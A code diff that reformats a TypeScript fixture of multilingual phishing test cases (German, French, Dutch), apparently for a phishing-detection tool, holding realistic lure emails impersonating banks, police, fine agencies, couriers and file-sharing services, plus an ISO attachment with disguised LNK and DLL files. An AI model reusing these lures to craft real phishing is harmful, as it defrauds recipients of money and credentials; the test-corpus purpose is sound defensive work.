+          'Sehr geehrte Damen und Herren,\n\nhiermit bewerbe ich mich auf Ihre Stelle als Bürokauffrau. Meinen Lebenslauf, das Anschreiben und meine Zeugnisse finden Sie im Anhang.\n\nÜber eine Einladung zu einem Vorstellungsgespräch freue ich mich.\n\nMit freundlichen Grüßen\nLena Schuster',
+        ),
         attachment('Bewerbung_Lena_Schuster.iso', 'application/octet-stream', isoImage(['LEBENSLAUF_LENA_SCHUSTER.PDF.LNK', 'ZEUGNISSE.DLL'])),
       ]),
     }),
@@ -1214,14 +1392,20 @@ export const MORE_CASES: readonly PhishingCase[] = [
         'X-Mailin-Client: 3177482',
         'Feedback-ID: 77.32.148.52:3177482_-1:3177482:Sendinblue',
       ],
-      body: document([
-        { heading: 'Auszahlung unterwegs' },
-        'Hallo,',
-        'Ihre Auszahlung von 0,42 BTC (≈ 33.870 €) an die Adresse bc1qz7k2l9m4n8p3r6t1v5w0x2y7a4c9e3g6j8h1d5 wurde eingeleitet und wird in Kürze ausgeführt.',
-        'Haben Sie diese Auszahlung nicht beauftragt? Stoppen Sie sie sofort über den folgenden Link und bestätigen Sie Ihre Identität.',
-        { button: 'Auszahlung stoppen', href: 'https://r.sendibt3.com/mk/cl/f/sh/7Yw2Kq9Lm4Rz/Tj3Hs6Fa9' },
-        { small: 'Sie erhalten diese E-Mail, weil Sie Kunde von Radhaus Lindenberg sind. Radhaus Lindenberg, Hauptstraße 21, 88161 Lindenberg im Allgäu. [Abmelden](https://r.sendibt3.com/mk/un/v2/sh/7Yw2Kq9Lm4Rz/Nd5Vb8Xc1)' },
-      ], { lang: 'de' }),
+      body: document(
+        [
+          { heading: 'Auszahlung unterwegs' },
+          'Hallo,',
+          'Ihre Auszahlung von 0,42 BTC (≈ 33.870 €) an die Adresse bc1qz7k2l9m4n8p3r6t1v5w0x2y7a4c9e3g6j8h1d5 wurde eingeleitet und wird in Kürze ausgeführt.',
+          'Haben Sie diese Auszahlung nicht beauftragt? Stoppen Sie sie sofort über den folgenden Link und bestätigen Sie Ihre Identität.',
+          { button: 'Auszahlung stoppen', href: 'https://r.sendibt3.com/mk/cl/f/sh/7Yw2Kq9Lm4Rz/Tj3Hs6Fa9' },
+          {
+            small:
+              'Sie erhalten diese E-Mail, weil Sie Kunde von Radhaus Lindenberg sind. Radhaus Lindenberg, Hauptstraße 21, 88161 Lindenberg im Allgäu. [Abmelden](https://r.sendibt3.com/mk/un/v2/sh/7Yw2Kq9Lm4Rz/Nd5Vb8Xc1)',
+          },
+        ],
+        { lang: 'de' },
+      ),
     }),
   },
   {
@@ -1239,16 +1423,22 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['outlook.de:selector1'],
       relay: 'DEU01-FR2-obe.outbound.protection.outlook.com [40.92.74.12]',
       body: multipart('mixed', [
-        plain('Sehr geehrte/r Frau/Herr,\n\nanbei erhalten Sie eine Vorladung des Bundeskriminalamts. Bitte lesen Sie das Dokument sorgfältig.\n\nBundeskriminalamt – Referat SO 41'),
-        attachment('Vorladung_BKA-SO41-2025-0872.pdf', 'application/pdf', textPdf([
-          'BUNDESKRIMINALAMT - REFERAT SO 41 CYBERKRIMINALITAET',
-          'VORLADUNG',
-          'Im Rahmen einer von der Staatsanwaltschaft genehmigten Cyber-Infiltration wurden Sie',
-          'wegen Besitzes und Verbreitung kinderpornografischer Inhalte identifiziert.',
-          'Sie haben 48 Stunden Zeit, um sich per E-Mail an ermittlung.bka.ecr@gmx.com zu rechtfertigen.',
-          'Ohne Antwort wird ein Haftbefehl beantragt und Ihre Akte an die Presse weitergegeben.',
-          'Der Praesident des Bundeskriminalamts',
-        ])),
+        plain(
+          'Sehr geehrte/r Frau/Herr,\n\nanbei erhalten Sie eine Vorladung des Bundeskriminalamts. Bitte lesen Sie das Dokument sorgfältig.\n\nBundeskriminalamt – Referat SO 41',
+        ),
+        attachment(
+          'Vorladung_BKA-SO41-2025-0872.pdf',
+          'application/pdf',
+          textPdf([
+            'BUNDESKRIMINALAMT - REFERAT SO 41 CYBERKRIMINALITAET',
+            'VORLADUNG',
+            'Im Rahmen einer von der Staatsanwaltschaft genehmigten Cyber-Infiltration wurden Sie',
+            'wegen Besitzes und Verbreitung kinderpornografischer Inhalte identifiziert.',
+            'Sie haben 48 Stunden Zeit, um sich per E-Mail an ermittlung.bka.ecr@gmx.com zu rechtfertigen.',
+            'Ohne Antwort wird ein Haftbefehl beantragt und Ihre Akte an die Presse weitergegeben.',
+            'Der Praesident des Bundeskriminalamts',
+          ]),
+        ),
       ]),
     }),
   },
@@ -1267,13 +1457,16 @@ export const MORE_CASES: readonly PhishingCase[] = [
       messageId: 'FR2P281MB2251A9C8B7D6E5F4A3B2C1D0E9F8A@FR2P281MB2251.DEUP281.PROD.OUTLOOK.COM',
       dkim: ['stb-neumann-partner.de:selector1'],
       relay: 'DEU01-BE0-obe.outbound.protection.outlook.com [40.107.135.88]',
-      body: document([
-        { heading: 'Claudia Neumann hat eine Datei für Sie freigegeben' },
-        'Jahresabschluss 2024 – Brandt Haustechnik.pdf (2 Seiten)',
-        'Bitte prüfen Sie die Unterlagen bis Freitag. Zum Öffnen melden Sie sich mit Ihrer geschäftlichen E-Mail-Adresse an.',
-        { button: 'Dokument öffnen', href: 'https://new.express.adobe.com/webpage/Xq7Lm2Rz9Nw4V' },
-        { small: 'Steuerberatung Neumann & Partner mbB, Theaterstraße 8, 30159 Hannover.' },
-      ], { lang: 'de' }),
+      body: document(
+        [
+          { heading: 'Claudia Neumann hat eine Datei für Sie freigegeben' },
+          'Jahresabschluss 2024 – Brandt Haustechnik.pdf (2 Seiten)',
+          'Bitte prüfen Sie die Unterlagen bis Freitag. Zum Öffnen melden Sie sich mit Ihrer geschäftlichen E-Mail-Adresse an.',
+          { button: 'Dokument öffnen', href: 'https://new.express.adobe.com/webpage/Xq7Lm2Rz9Nw4V' },
+          { small: 'Steuerberatung Neumann & Partner mbB, Theaterstraße 8, 30159 Hannover.' },
+        ],
+        { lang: 'de' },
+      ),
     }),
   },
 
@@ -1294,7 +1487,9 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['laposte.net:lpn-wlmd'],
       relay: 'smtp-out.laposte.net [160.92.124.66]',
       body: multipart('related', [
-        html('<html><body><p>Veuillez prendre connaissance de votre convocation ci-dessous.</p><img src="cid:convocation@gn" width="640" alt=""></body></html>'),
+        html(
+          '<html><body><p>Veuillez prendre connaissance de votre convocation ci-dessous.</p><img src="cid:convocation@gn" width="640" alt=""></body></html>',
+        ),
         inlineImage('convocation@gn', 'convocation.jpg', JPEG),
       ]),
     }),
@@ -1313,14 +1508,17 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['antai-paiement-amende.fr.com:mail'],
       relay: 'mx.antai-paiement-amende.fr.com [198.51.100.214]',
       auth: { dmarc: 'none' },
-      body: document([
-        { heading: 'Avis de contravention' },
-        'Madame, Monsieur,',
-        'Une infraction au code de la route a été constatée avec votre véhicule le 02/03/2025 (excès de vitesse inférieur à 20 km/h). Le montant de l\'amende forfaitaire est de 35 €.',
-        'Sans paiement sous 72 heures, l\'amende sera majorée à 75 € et transmise au Trésor public pour recouvrement.',
-        { button: 'Payer mon amende', href: 'https://antai-paiement-amende.fr.com/paiement?avis=051844719921' },
-        { small: 'Agence Nationale de Traitement Automatisé des Infractions. Ne pas répondre.' },
-      ], { lang: 'fr' }),
+      body: document(
+        [
+          { heading: 'Avis de contravention' },
+          'Madame, Monsieur,',
+          "Une infraction au code de la route a été constatée avec votre véhicule le 02/03/2025 (excès de vitesse inférieur à 20 km/h). Le montant de l'amende forfaitaire est de 35 €.",
+          "Sans paiement sous 72 heures, l'amende sera majorée à 75 € et transmise au Trésor public pour recouvrement.",
+          { button: 'Payer mon amende', href: 'https://antai-paiement-amende.fr.com/paiement?avis=051844719921' },
+          { small: 'Agence Nationale de Traitement Automatisé des Infractions. Ne pas répondre.' },
+        ],
+        { lang: 'fr' },
+      ),
     }),
   },
   {
@@ -1337,13 +1535,16 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['moncompte-formation-droits.fr:default'],
       relay: 'smtp.moncompte-formation-droits.fr [203.0.113.244]',
       auth: { dmarc: 'none' },
-      body: document([
-        'Bonjour,',
-        'Votre compte personnel de formation dispose de 1 480 € de droits qui seront perdus s\'ils ne sont pas utilisés avant le 31 janvier 2025.',
-        'Pour les conserver, connectez-vous à votre espace avec votre numéro de sécurité sociale et votre mot de passe, puis confirmez votre formation.',
-        { button: 'Conserver mes droits', href: 'https://moncompte-formation-droits.fr/connexion' },
-        { small: 'Caisse des Dépôts – Mon Compte Formation.' },
-      ], { lang: 'fr' }),
+      body: document(
+        [
+          'Bonjour,',
+          "Votre compte personnel de formation dispose de 1 480 € de droits qui seront perdus s'ils ne sont pas utilisés avant le 31 janvier 2025.",
+          'Pour les conserver, connectez-vous à votre espace avec votre numéro de sécurité sociale et votre mot de passe, puis confirmez votre formation.',
+          { button: 'Conserver mes droits', href: 'https://moncompte-formation-droits.fr/connexion' },
+          { small: 'Caisse des Dépôts – Mon Compte Formation.' },
+        ],
+        { lang: 'fr' },
+      ),
     }),
   },
   {
@@ -1360,13 +1561,16 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['labanquepostale-certicode.com:s1'],
       relay: 'mail.labanquepostale-certicode.com [192.0.2.63]',
       auth: { dmarc: 'none' },
-      body: document([
-        'Chère cliente, cher client,',
-        'Dans le cadre de la directive européenne DSP2, votre service Certicode Plus doit être réactivé. Sans réactivation sous 48 heures, vos opérations en ligne et votre carte seront bloquées.',
-        'Munissez-vous de votre identifiant, de votre mot de passe et de votre carte bancaire.',
-        { button: 'Réactiver Certicode Plus', href: 'https://labanquepostale-certicode.com/reactivation' },
-        { small: 'La Banque Postale – 115, rue de Sèvres, 75275 Paris Cedex 06.' },
-      ], { lang: 'fr' }),
+      body: document(
+        [
+          'Chère cliente, cher client,',
+          'Dans le cadre de la directive européenne DSP2, votre service Certicode Plus doit être réactivé. Sans réactivation sous 48 heures, vos opérations en ligne et votre carte seront bloquées.',
+          'Munissez-vous de votre identifiant, de votre mot de passe et de votre carte bancaire.',
+          { button: 'Réactiver Certicode Plus', href: 'https://labanquepostale-certicode.com/reactivation' },
+          { small: 'La Banque Postale – 115, rue de Sèvres, 75275 Paris Cedex 06.' },
+        ],
+        { lang: 'fr' },
+      ),
     }),
   },
   {
@@ -1384,14 +1588,23 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['aurumcapital-invest.com:default'],
       relay: 'mail.aurumcapital-invest.com [203.0.113.54]',
       auth: { dmarc: 'none' },
-      body: document([
-        'Cher Monsieur Martin,',
-        'Félicitations : votre portefeuille crypto géré par votre conseiller affiche un solde de 23 480,00 €, disponible au retrait.',
-        'Conformément à la réglementation anti-blanchiment, les frais de déblocage de 10 % (2 348,00 €) doivent être réglés par virement avant le transfert des fonds. Les fonds vous seront versés sous 24 heures après réception.',
-        { rows: [['Bénéficiaire', 'AC Compliance Ltd'], ['IBAN', 'CY17 0020 0128 0000 0012 0052 7600'], ['Référence', 'RET-23480-GM']] },
-        'Sans règlement sous 5 jours, la demande de retrait sera annulée et le compte gelé.',
-        { small: 'Aurum Capital – Service Conformité.' },
-      ], { lang: 'fr' }),
+      body: document(
+        [
+          'Cher Monsieur Martin,',
+          'Félicitations : votre portefeuille crypto géré par votre conseiller affiche un solde de 23 480,00 €, disponible au retrait.',
+          'Conformément à la réglementation anti-blanchiment, les frais de déblocage de 10 % (2 348,00 €) doivent être réglés par virement avant le transfert des fonds. Les fonds vous seront versés sous 24 heures après réception.',
+          {
+            rows: [
+              ['Bénéficiaire', 'AC Compliance Ltd'],
+              ['IBAN', 'CY17 0020 0128 0000 0012 0052 7600'],
+              ['Référence', 'RET-23480-GM'],
+            ],
+          },
+          'Sans règlement sous 5 jours, la demande de retrait sera annulée et le compte gelé.',
+          { small: 'Aurum Capital – Service Conformité.' },
+        ],
+        { lang: 'fr' },
+      ),
     }),
   },
   {
@@ -1409,13 +1622,16 @@ export const MORE_CASES: readonly PhishingCase[] = [
       returnPath: 'bounces+62281194-b7d1-i.rousseau=cabinet-rousseau-avocats.fr@em1182.yousign-signature.fr.com',
       relay: 'o4.ptr1182.yousign-signature.fr.com [149.72.61.182]',
       headers: ['X-SG-EID: u001.Wq4Lm7Rz1Nx8Vb2Kc5Tp9Hd0Fj3As6Gy'],
-      body: document([
-        { heading: 'Vous êtes invité(e) à signer un document' },
-        'Maître Delcourt vous invite à signer « Protocole_accord_2025.pdf ».',
-        'Message : « Bonjour, voici le protocole d\'accord finalisé. Merci de le signer aujourd\'hui afin que nous puissions procéder au virement. »',
-        { button: 'Accéder au document', href: 'https://u62281194.ct.sendgrid.net/ls/click?upn=u001.Tn4Kq8Lm1Rz5Vb9Xc2Mp6-2Bw3' },
-        { small: 'Yousign SAS – Signature électronique. Ne transférez pas cet e-mail.' },
-      ], { lang: 'fr' }),
+      body: document(
+        [
+          { heading: 'Vous êtes invité(e) à signer un document' },
+          'Maître Delcourt vous invite à signer « Protocole_accord_2025.pdf ».',
+          "Message : « Bonjour, voici le protocole d'accord finalisé. Merci de le signer aujourd'hui afin que nous puissions procéder au virement. »",
+          { button: 'Accéder au document', href: 'https://u62281194.ct.sendgrid.net/ls/click?upn=u001.Tn4Kq8Lm1Rz5Vb9Xc2Mp6-2Bw3' },
+          { small: 'Yousign SAS – Signature électronique. Ne transférez pas cet e-mail.' },
+        ],
+        { lang: 'fr' },
+      ),
     }),
   },
   {
@@ -1426,18 +1642,21 @@ export const MORE_CASES: readonly PhishingCase[] = [
     raw: mail({
       from: 'Service Livraison <info@suivi-colis-livraison.shop>',
       to: 'Aurélie Fontaine <aurelie.fontaine@hotmail.fr>',
-      subject: 'Votre colis n\'a pas pu être livré – action requise',
+      subject: "Votre colis n'a pas pu être livré – action requise",
       date: 'Sun, 14 Dec 2025 18:22:07 +0100',
       messageId: '20251214172207.3c8f@suivi-colis-livraison.shop',
       dkim: ['suivi-colis-livraison.shop:s1'],
       relay: 'smtp.suivi-colis-livraison.shop [198.51.100.9]',
       auth: { dmarc: 'none' },
-      body: document([
-        'Bonjour,',
-        'Nous avons tenté de livrer votre colis aujourd\'hui, mais des frais de livraison de 2,99 € restent impayés.',
-        'Merci de régler ces frais et de choisir une nouvelle date de livraison sous 48 heures. Passé ce délai, le colis sera retourné à l\'expéditeur.',
-        { button: 'Reprogrammer la livraison', href: 'https://suivi-colis-livraison.shop/fr/paiement?c=FR7741' },
-      ], { lang: 'fr' }),
+      body: document(
+        [
+          'Bonjour,',
+          "Nous avons tenté de livrer votre colis aujourd'hui, mais des frais de livraison de 2,99 € restent impayés.",
+          "Merci de régler ces frais et de choisir une nouvelle date de livraison sous 48 heures. Passé ce délai, le colis sera retourné à l'expéditeur.",
+          { button: 'Reprogrammer la livraison', href: 'https://suivi-colis-livraison.shop/fr/paiement?c=FR7741' },
+        ],
+        { lang: 'fr' },
+      ),
     }),
   },
 
@@ -1456,13 +1675,16 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['rabobank-app-activatie.nl.eu:s1'],
       relay: 'mail.rabobank-app-activatie.nl.eu [203.0.113.152]',
       auth: { dmarc: 'none' },
-      body: document([
-        'Geachte klant,',
-        'Vanwege nieuwe Europese veiligheidsregels moet uw Rabo App opnieuw geactiveerd worden. Doet u dit niet vóór vrijdag 7 maart, dan wordt uw toegang tot Rabo Online Bankieren geblokkeerd.',
-        'Houd uw Rabo Scanner en bankpas bij de hand.',
-        { button: 'Activeer opnieuw', href: 'https://rabobank-app-activatie.nl.eu/activeren' },
-        { small: 'Rabobank, Croeselaan 18, 3521 CB Utrecht.' },
-      ], { lang: 'nl' }),
+      body: document(
+        [
+          'Geachte klant,',
+          'Vanwege nieuwe Europese veiligheidsregels moet uw Rabo App opnieuw geactiveerd worden. Doet u dit niet vóór vrijdag 7 maart, dan wordt uw toegang tot Rabo Online Bankieren geblokkeerd.',
+          'Houd uw Rabo Scanner en bankpas bij de hand.',
+          { button: 'Activeer opnieuw', href: 'https://rabobank-app-activatie.nl.eu/activeren' },
+          { small: 'Rabobank, Croeselaan 18, 3521 CB Utrecht.' },
+        ],
+        { lang: 'nl' },
+      ),
     }),
   },
   {
@@ -1479,14 +1701,17 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['cjib-betaling.com:mail'],
       relay: 'smtp.cjib-betaling.com [198.51.100.201]',
       auth: { dmarc: 'none' },
-      body: document([
-        { heading: 'Aanmaning verkeersboete' },
-        'Geachte heer/mevrouw,',
-        'U heeft de beschikking voor een verkeersovertreding (te hard rijden, 14 km/u) nog niet betaald. Het openstaande bedrag is € 104,00.',
-        'Betaal binnen 3 dagen via iDEAL. Daarna wordt het bedrag verhoogd met € 52 administratiekosten en kan een deurwaarder worden ingeschakeld.',
-        { button: 'Betaal met iDEAL', href: 'https://cjib-betaling.com/ideal/202504188821' },
-        { small: 'Centraal Justitieel Incassobureau, Ministerie van Justitie en Veiligheid.' },
-      ], { lang: 'nl' }),
+      body: document(
+        [
+          { heading: 'Aanmaning verkeersboete' },
+          'Geachte heer/mevrouw,',
+          'U heeft de beschikking voor een verkeersovertreding (te hard rijden, 14 km/u) nog niet betaald. Het openstaande bedrag is € 104,00.',
+          'Betaal binnen 3 dagen via iDEAL. Daarna wordt het bedrag verhoogd met € 52 administratiekosten en kan een deurwaarder worden ingeschakeld.',
+          { button: 'Betaal met iDEAL', href: 'https://cjib-betaling.com/ideal/202504188821' },
+          { small: 'Centraal Justitieel Incassobureau, Ministerie van Justitie en Veiligheid.' },
+        ],
+        { lang: 'nl' },
+      ),
     }),
   },
   {
@@ -1503,12 +1728,15 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['pakket-douane-nl.top:s1'],
       relay: 'mta.pakket-douane-nl.top [192.0.2.183]',
       auth: { dmarc: 'none' },
-      body: document([
-        'Beste klant,',
-        'Uw internationale pakket is aangekomen in ons sorteercentrum. Voordat wij het kunnen bezorgen, moeten de invoerrechten van € 3,49 worden voldaan.',
-        'Betaal binnen 48 uur, anders wordt het pakket teruggestuurd naar de afzender.',
-        { button: 'Betalen en bezorging plannen', href: 'https://pakket-douane-nl.top/betalen?id=NL88213' },
-      ], { lang: 'nl' }),
+      body: document(
+        [
+          'Beste klant,',
+          'Uw internationale pakket is aangekomen in ons sorteercentrum. Voordat wij het kunnen bezorgen, moeten de invoerrechten van € 3,49 worden voldaan.',
+          'Betaal binnen 48 uur, anders wordt het pakket teruggestuurd naar de afzender.',
+          { button: 'Betalen en bezorging plannen', href: 'https://pakket-douane-nl.top/betalen?id=NL88213' },
+        ],
+        { lang: 'nl' },
+      ),
     }),
   },
   {
@@ -1525,14 +1753,17 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['bitvavo-verificatie.com:mail'],
       relay: 'smtp.bitvavo-verificatie.com [203.0.113.93]',
       auth: { dmarc: 'none' },
-      body: document([
-        { heading: 'Verificatie vereist' },
-        'Hoi Joost,',
-        'Op grond van de MiCA-regelgeving moeten we de gegevens van je account opnieuw controleren. Tot die tijd is je account bevroren en kun je geen crypto opnemen.',
-        'Log in en bevestig je gegevens binnen 24 uur. Heb je een externe wallet gekoppeld, houd dan ook je herstelzin bij de hand.',
-        { button: 'Account verifiëren', href: 'https://bitvavo-verificatie.com/login' },
-        { small: 'Bitvavo B.V., Keizersgracht 281, 1016 ED Amsterdam.' },
-      ], { lang: 'nl' }),
+      body: document(
+        [
+          { heading: 'Verificatie vereist' },
+          'Hoi Joost,',
+          'Op grond van de MiCA-regelgeving moeten we de gegevens van je account opnieuw controleren. Tot die tijd is je account bevroren en kun je geen crypto opnemen.',
+          'Log in en bevestig je gegevens binnen 24 uur. Heb je een externe wallet gekoppeld, houd dan ook je herstelzin bij de hand.',
+          { button: 'Account verifiëren', href: 'https://bitvavo-verificatie.com/login' },
+          { small: 'Bitvavo B.V., Keizersgracht 281, 1016 ED Amsterdam.' },
+        ],
+        { lang: 'nl' },
+      ),
     }),
   },
   {
@@ -1548,13 +1779,16 @@ export const MORE_CASES: readonly PhishingCase[] = [
       messageId: 'AS8PR02MB9122F1E2D3C4B5A6978869A0B1C2D@AS8PR02MB9122.eurprd02.prod.outlook.com',
       dkim: ['outlook.com:selector1'],
       relay: 'EUR02-AM0-obe.outbound.protection.outlook.com [40.92.49.17]',
-      body: document([
-        'Beste KPN Mail gebruiker,',
-        'Uw mailbox heeft de maximale opslagruimte bereikt. Er staan 14 inkomende berichten in de wacht die over 24 uur worden verwijderd.',
-        'Log in om gratis extra opslagruimte te activeren en uw berichten te ontvangen.',
-        { button: 'Opslag vergroten', href: 'https://docs.google.com/forms/d/e/1FAIpQLSd8Kq2Lm5Rz9Nw3Vb7Xc1Mp4Tj6Fd0As/viewform' },
-        { small: 'KPN B.V. – Mailbeheer' },
-      ], { lang: 'nl' }),
+      body: document(
+        [
+          'Beste KPN Mail gebruiker,',
+          'Uw mailbox heeft de maximale opslagruimte bereikt. Er staan 14 inkomende berichten in de wacht die over 24 uur worden verwijderd.',
+          'Log in om gratis extra opslagruimte te activeren en uw berichten te ontvangen.',
+          { button: 'Opslag vergroten', href: 'https://docs.google.com/forms/d/e/1FAIpQLSd8Kq2Lm5Rz9Nw3Vb7Xc1Mp4Tj6Fd0As/viewform' },
+          { small: 'KPN B.V. – Mailbeheer' },
+        ],
+        { lang: 'nl' },
+      ),
     }),
   },
   {
@@ -1571,14 +1805,23 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['wetransfer-bestanden.net:s1'],
       relay: 'mail.wetransfer-bestanden.net [198.51.100.62]',
       auth: { dmarc: 'none' },
-      body: document([
-        { heading: 'Je hebt 3 bestanden ontvangen' },
-        'inkoop@dekkerinstallatie.nl heeft je bestanden gestuurd.',
-        '"Beste Mark, hierbij de offerte en tekeningen zoals besproken. Graag vandaag akkoord."',
-        { rows: [['Bestanden', 'Offerte_Visser_Bouw_2025.pdf, Tekening_A1.pdf, Planning.xlsx'], ['Grootte', '14,2 MB'], ['Verloopt', 'over 2 dagen']] },
-        { button: 'Bestanden downloaden', href: 'https://wetransfer-bestanden.net/downloads/7f2a9c1e/login' },
-        { small: 'WeTransfer B.V. – Om veiligheidsredenen moet je inloggen met je zakelijke e-mailaccount.' },
-      ], { lang: 'nl' }),
+      body: document(
+        [
+          { heading: 'Je hebt 3 bestanden ontvangen' },
+          'inkoop@dekkerinstallatie.nl heeft je bestanden gestuurd.',
+          '"Beste Mark, hierbij de offerte en tekeningen zoals besproken. Graag vandaag akkoord."',
+          {
+            rows: [
+              ['Bestanden', 'Offerte_Visser_Bouw_2025.pdf, Tekening_A1.pdf, Planning.xlsx'],
+              ['Grootte', '14,2 MB'],
+              ['Verloopt', 'over 2 dagen'],
+            ],
+          },
+          { button: 'Bestanden downloaden', href: 'https://wetransfer-bestanden.net/downloads/7f2a9c1e/login' },
+          { small: 'WeTransfer B.V. – Om veiligheidsredenen moet je inloggen met je zakelijke e-mailaccount.' },
+        ],
+        { lang: 'nl' },
+      ),
     }),
   },
 ];
